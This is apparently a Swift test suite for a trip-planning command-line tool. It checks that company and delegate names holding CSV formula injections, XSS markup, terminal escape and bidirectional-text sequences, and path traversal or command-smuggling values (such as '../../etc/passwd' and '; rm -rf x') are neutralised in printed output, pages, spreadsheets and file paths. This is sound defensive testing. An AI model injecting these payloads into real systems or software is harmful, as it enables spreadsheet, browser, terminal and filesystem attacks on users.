import Testing
import TripFormats
import TripReading
import TripStorage
import TripTestSupport

@testable import TripCommands

/// Names that are formulas, markup, headers, sequences for terminals or paths, through every command that prints or
/// writes them. The lists are the public ones: OWASP (CSV injection, XSS filter evasion, path traversal), the terminal
/// sequences of CVE-2003-0063 and its kin, Trojan Source (CVE-2021-42574).
@Suite struct InjectionTests {
  static let formulas = [
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example\",\"y\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1", "=1+1\";=1+1", "|calc", "=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")",
  ]
  static let markup = [
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "'-alert(1)-'",
    "</style><script>alert(1)</script>", "<iframe src=javascript:alert(1)>", "javascript:alert(1)", "&lt;script&gt;",
    "</script><script>alert(1)</script>", "<!--<script>", "<math><mi//xlink:href=\"data:x,<script>\">",
  ]
  static let terminal = [
    "\u{1B}[2J", "\u{1B}]0;title\u{7}", "\u{1B}[31m", "\u{9B}31m", "\u{1B}]52;c;ZWNobw==\u{7}", "\u{8}\u{8}\u{8}",
    "\u{1B}P+q544e\u{1B}\\", "\u{1B}[6n", "\u{1B}c", "\u{7F}", "\u{202E}fdp.exe", "a\u{200B}b", "\u{2066}x\u{2069}",
  ]
  static let paths = [
    "../../etc/passwd", "..\\..\\windows", "/etc/passwd", "C:\\x", "a/../../b", "%2e%2e%2f", "..", ".", "CON",
    "a\u{0}b",
    "~root", "$(touch x)", "`touch x`", "; rm -rf x", "-rf",
  ]

  /// The Osaka trip in which a company and a person are called like that.
  private static func trip(named text: String) throws -> TripCopy {
    let trip = try TripCopy("Examples/2027-osaka")
    let quoted = "\"" + text.replacing("\"", with: "\"\"") + "\""
    try trip.write("company,name,ubn,contact\nA01,\(quoted),,\(quoted)\nA02,範例乙,,\n", to: "companies.csv")
    try trip.write(
      "company,name,surname,given_name,sex\nA01,\(quoted),LIN,YI,M\nA02,範例黃三,HUANG,SAN,M\n", to: "delegates.csv")
    return trip
  }

  private static func run(_ words: [String], _ trip: borrowing TripCopy, isTerminal: Bool = false) -> CommandRun {
    CommandRun(words + ["--today", "2027-01-15"], in: trip.path, isTerminal: isTerminal)
  }

  @Test("no terminal gets a sequence from a name", arguments: terminal)
  func terminals(payload: String) throws {
    let trip = try Self.trip(named: "範例" + payload + "甲")
    for words in [
      ["check"], ["status"], ["quote", "A01"], ["explain", "A01"], ["rooms"], ["cash"], ["cliff"], ["manifest"],
    ] {
      for isTerminal in [false, true] {
        let run = Self.run(words, trip, isTerminal: isTerminal)
        var text = run.out + run.error
        for code in Style.codes { text = text.replacing("\u{1B}[\(code)m", with: "") }
        let left = text.unicodeScalars.filter { scalar in
          scalar.value < 32 && scalar != "\n" && scalar != "\t" || (0x7F...0x9F).contains(scalar.value)
            || (0x202A...0x202E).contains(scalar.value) || (0x2066...0x2069).contains(scalar.value)
        }
        #expect(left.isEmpty, "trip \(words)")
      }
    }
    #expect(Self.run(["check"], trip).out.contains("[SignsVisible]"))
  }

  @Test("a name of several lines is one line of ours")
  func lines() throws {
    let trip = try Self.trip(named: "範例\n0 errors, 0 warnings\r\nx")
    for words in [["check"], ["status"], ["quote", "A01"], ["rooms"], ["manifest"]] {
      let run = Self.run(words, trip)
      #expect(
        !(run.out + run.error).split(separator: "\n").contains { $0.hasPrefix("0 errors, 0 warnings\r") || $0 == "x" })
    }
  }

  @Test("no paper holds a name as markup", arguments: markup)
  func pages(payload: String) throws {
    let trip = try Self.trip(named: payload)
    #expect(Self.run(["build"], trip).exit == .fine)
    #expect(Self.run(["page"], trip).exit == .fine)
    for (path, bytes) in Repository.tree(below: trip.path) where path.hasSuffix(".html") && payload.contains("<") {
      #expect(!String(decoding: bytes, as: UTF8.self).contains(payload), "\(path)")
    }
  }

  @Test("no table for a person begins a cell with a formula, and no workbook holds one", arguments: formulas)
  func tables(payload: String) throws {
    let trip = try Self.trip(named: payload)
    #expect(Self.run(["build"], trip).exit == .fine)
    for (path, bytes) in Repository.tree(below: trip.path + "/papers") {
      if path.hasSuffix(".csv"), !path.contains("machine") {
        var (reader, record) = (
          CSVReader(TextFile(path: path, bytes: try TextDecoding.decode(bytes).bytes)), CSVRecord()
        )
        while reader.next(into: &record) {
          #expect(!record.fields.contains { reader.text($0) == payload }, "\(path)")
        }
      }
      guard path.hasSuffix(".xlsx") else { continue }
      let cells = try XLSXReader.workbook(bytes).sheets.flatMap(\.rows).flatMap(\.cells)
      #expect(!cells.contains { $0.hasFormula && $0.value == .text(payload) }, "\(path)")
    }
  }

  @Test("no code of a company leads out of the folder", arguments: paths)
  func codes(payload: String) throws {
    let trip = try TripCopy("Examples/2027-osaka")
    try trip.write("company,name\n\"\(payload)\",範例甲\n", to: "companies.csv")
    try trip.write("company,name,surname,given_name,sex\n\"\(payload)\",範例一,LIN,YI,M\n", to: "delegates.csv")
    let outside = FilePath.parent(of: trip.path)
    for words in [["build"], ["form"], ["invoice", "issue", payload], ["calendar", payload]] {
      _ = Self.run(words, trip)
      #expect(try PosixDisk().list(outside) == ["trip"], "trip \(words)")
    }
    for path in try PosixDisk().files(below: trip.path) {
      #expect(!path.split(separator: "/").contains { $0 == ".." || $0.contains("\\") }, "\(path)")
    }
  }
}
